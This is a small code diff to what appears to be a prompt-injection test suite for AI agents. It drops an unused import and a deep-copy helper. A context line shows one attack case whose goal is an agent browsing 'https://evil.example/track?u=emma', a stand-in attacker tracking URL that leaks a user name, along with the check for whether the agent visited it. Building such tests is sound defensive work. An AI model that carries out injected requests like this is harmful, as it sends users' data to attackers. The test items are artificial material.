@@ -8,7 +8,6 @@ README, a newsletter e-mail and a requirements file. The environment is built in
 
 from __future__ import annotations
 
-import copy
 from collections.abc import Callable
 from typing import Any
 
@@ -455,7 +454,3 @@ _attack(
     lambda e: [("browse", {"url": "https://evil.example/track?u=emma"})],
     lambda o, p, e: any("evil.example" in u for u in e.browser.visited),
 )
-
-
-def fresh(env: Env) -> Env:
-    return copy.deepcopy(env)
